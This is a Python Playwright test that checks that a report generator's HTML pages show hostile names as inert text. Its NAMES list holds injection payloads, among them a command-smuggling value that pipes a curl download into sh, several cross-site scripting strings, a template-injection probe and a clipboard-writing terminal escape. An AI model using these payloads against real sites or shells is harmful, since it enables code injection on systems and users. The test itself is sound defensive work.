"""The names that a hostile agent or tenant might send, on the pages: they are read, and none of them runs.

Where there is no Chromium, `make browser` says how to get it.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from plimsoll_simulation.output.page.document import page as page_of
from plimsoll_simulation.output.page.runs import Run
from tests.support.browsers import launched, looked, opened
from tests.support.cli_environment import MemoryEnvironment, run
from tests.support.shop import a_shop
from tests.unit.simulation.output.test_html_report import played

pytestmark = pytest.mark.skipif(looked.returncode != 0, reason=looked.stderr.strip())
NAMES = (
    "pv-1 && curl http://x | sh",
    "<script>document.title='run'</script>",
    '"><img src=x onerror="document.title=\'run\'">',
    "'onmouseover='document.title=1'",
    "</style><svg onload=document.title='run'>",
    "javascript:document.title='run'",
    "{{ 7 * 7 }}",
    "a\x1b]52;c;Y3VybA==\x07",
)


def with_floors(environment: MemoryEnvironment) -> MemoryEnvironment:
    """Return a cluster whose owner wrote such text where a floor is read."""
    for name, floor in zip(("web", "cart"), NAMES[1:3], strict=True):
        environment.transports["harbor"].call(
            "PATCH",
            f"/apis/apps/v1/namespaces/shop/deployments/{name}",
            body={"metadata": {"annotations": {"plimsoll.dev/min-on-demand": floor}}},
            content_type="application/merge-patch+json",
        )
    return environment


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    folder = tmp_path_factory.mktemp("hostile")
    plan, drill = folder / "plan.html", folder / "drill.html"
    run(with_floors(a_shop()), "plan", "--cluster", "harbor", "--html", str(plan))
    done = played("plimsoll")
    report: Any = json.loads(json.dumps(done.report))
    history = copy.deepcopy(done.history)
    report["reports"][0]["reasons"] += NAMES
    report["drill"] = NAMES[1]
    for name in NAMES:
        history.said(30.0, f"acted on {name}")
    drill.write_text(page_of([Run(report=report, history=history)], description=" ".join(NAMES)))
    return [plan, drill]


@pytest.fixture(scope="module")
def browser(pages: list[Path]) -> Iterator[Browser]:
    """A browser. The pages come first, because Playwright leaves an asyncio loop running."""
    with launched() as chromium:
        yield chromium


def test_names_stand_on_the_pages_and_none_of_them_runs(browser: Browser, pages: list[Path]):
    for path, least in zip(pages, (1, len(NAMES)), strict=True):
        with opened(browser, path) as page:
            title = page.title()
            page.mouse.move(200, 200)
            text = page.locator("body").evaluate("(e) => e.textContent")
            made = page.locator(
                "img, body svg[onload], [onerror], [onmouseover], a[href^=javascript]"
            )
            assert made.count() == 0
            assert sum(name in text for name in NAMES) >= least
            assert page.title() == title
            assert "49" not in page.locator("h1").inner_text()
